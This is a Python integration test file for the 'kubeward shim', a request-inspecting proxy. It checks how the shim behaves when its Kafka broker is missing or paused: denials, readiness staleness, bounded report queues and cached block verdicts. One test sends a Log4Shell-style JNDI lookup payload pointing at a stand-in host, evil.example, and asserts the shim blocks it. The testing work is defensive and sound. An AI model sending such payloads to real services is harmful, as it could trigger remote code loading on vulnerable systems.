"""A real ``kubeward shim`` process when Kafka is away: at start, and after it has synced.

* No broker at all: the shim starts, inline inspection denies attacks (it needs no
  Kafka), what needs the cache answers per ``failure_mode``, ``/readyz`` says
  ``syncing``, and reports queue up to ``report_queue_max`` and are then dropped and
  counted (a review measured 100,000 queued reports and ~50 MB grown without a bound).
* A broker of its own, paused with SIGSTOP after the shim synced: the cached verdict
  keeps blocking, ``/readyz`` turns 503 ``stale`` after ``stale_after_s`` while
  ``/healthz`` stays 200 and reports the age; after SIGCONT it is ready again.
"""

from __future__ import annotations

import http.client
import json
import os
import signal
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from kafka import KafkaProducer

from deploy.runtime import broker
from deploy.runtime.process import free_port, start_shim, stop_process
from ingest import VERDICTS, Subject, Verdict, sign_verdict

pytestmark = pytest.mark.integration

DEV_KEY = b"kubeward-dev-verdict-key"


def _get(port: int, path: str, method: str = "GET", body: bytes | None = None, headers: dict[str, str] | None = None) -> tuple[int, dict[str, str], bytes]:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    try:
        conn.request(method, path, body=body, headers=headers or {})
        resp = conn.getresponse()
        return resp.status, {k.lower(): v for k, v in resp.getheaders()}, resp.read()
    finally:
        conn.close()


def _state(admin: int, path: str) -> tuple[int, dict[str, Any]]:
    status, _, body = _get(admin, path)
    return status, json.loads(body)


def _wait(predicate: Any, timeout: float, what: str) -> None:
    deadline = time.time() + timeout
    while time.time() < deadline:
        if predicate():
            return
        time.sleep(0.2)
    raise AssertionError(f"{what} within {timeout} s")


def test_without_a_broker_the_shim_inspects_answers_per_failure_mode_and_bounds_its_reports(tmp_path: Path) -> None:
    port, admin = free_port(), free_port()
    settings = {"bootstrap": f"127.0.0.1:{free_port()}", "port": port, "admin_port": admin, "report": "all", "report_queue_max": 200,
                "failure_mode": "deny", "adapter": "envoy", "policy": {"default_mode": "enforce"}}  # fmt: skip
    shim = start_shim(tmp_path / "shim.log", settings, until="/healthz")
    try:
        _wait(lambda: _state(admin, "/readyz")[1]["warm"], 60, "warm-up")
        status, state = _state(admin, "/readyz")
        assert (status, state["why"]) == (503, ["syncing"])
        attack = json.dumps({"note": "${jndi:ldap://evil.example/a}"}).encode()
        status, headers, _ = _get(port, "/orders", "POST", attack, {"host": "orders", "content-type": "application/json"})
        assert (status, headers["x-kubeward-decision"]) == (403, "deny")  # inline inspection needs no Kafka
        status, headers, _ = _get(port, "/orders/1", headers={"host": "orders"})
        assert status == 403  # needs the cache: answered per failure_mode=deny
        for i in range(500):
            _get(port, f"/orders/{i}", headers={"host": "orders"})
        stats = json.loads(_get(admin, "/stats")[2])
        assert stats["reports_queued"] <= 200 and stats["reports_dropped"] >= 302 - 200
        assert stats["reports_queued"] + stats["reports_dropped"] == 502  # every decision queued or counted dropped
        assert b"kubeward_shim_reports_dropped_total" in _get(admin, "/metrics")[2]
        _wait(lambda: "reporter cannot reach Kafka; retrying" in (tmp_path / "shim.log").read_text(), 30, "the reporter's warning")
        assert _get(port, "/orders/1", headers={"host": "orders"})[0] == 403  # still answering
    finally:
        stop_process(shim)
    assert "Unclosed AIOKafkaConsumer" not in (tmp_path / "shim.log").read_text()


@pytest.fixture
def own_broker(tmp_path: Path) -> Iterator[broker.Broker]:
    broker.fetch_jars()
    handle = broker.start(tmp_path / "kafka", port=free_port(), controller_port=free_port())
    try:
        broker.ensure_topics(handle.bootstrap)
        yield handle
    finally:
        os.kill(handle.pid, signal.SIGCONT)
        broker.stop(tmp_path / "kafka")


@pytest.mark.slow
def test_a_paused_broker_leaves_cached_verdicts_working_and_readiness_reports_staleness(tmp_path: Path, own_broker: broker.Broker) -> None:
    now = time.time()
    blocked = Verdict(id=str(uuid.uuid4()), subject=Subject(kind="ip", value="10.9.9.9"), action="block", mode="enforce",
                      expires_at=now + 600, issued_at=now, evidence_time=now)  # fmt: skip
    producer = KafkaProducer(bootstrap_servers=own_broker.bootstrap)
    producer.send(VERDICTS.name, key=blocked.entry_key.encode(), value=sign_verdict(blocked, DEV_KEY).model_dump_json().encode())
    producer.flush(10)
    producer.close()
    port, admin = free_port(), free_port()
    settings = {"bootstrap": own_broker.bootstrap, "port": port, "admin_port": admin, "report": "denied", "stale_after_s": 8, "unready_when_stale": True,
                "adapter": "envoy", "identity": {"trusted_hops": 1}}  # fmt: skip
    shim = start_shim(tmp_path / "shim.log", settings)
    attacker = {"host": "orders", "x-forwarded-for": "10.9.9.9"}
    try:
        assert _get(port, "/orders/1", headers=attacker)[0] == 403
        os.kill(own_broker.pid, signal.SIGSTOP)
        _wait(lambda: _state(admin, "/readyz")[0] == 503, 40, "/readyz stale")
        status, state = _state(admin, "/readyz")
        assert state["why"] == ["stale"] and state["cache_age_s"] > 8
        status, state = _state(admin, "/healthz")
        assert (status, state["stale"]) == (200, True)
        assert _get(port, "/orders/1", headers=attacker)[0] == 403  # the cached verdict still holds
        assert _get(port, "/orders/1", headers={"host": "orders", "x-forwarded-for": "10.1.1.1"})[0] == 200
        os.kill(own_broker.pid, signal.SIGCONT)
        _wait(lambda: _state(admin, "/readyz")[0] == 200, 60, "/readyz fresh again after SIGCONT")
    finally:
        os.kill(own_broker.pid, signal.SIGCONT)
        stop_process(shim)
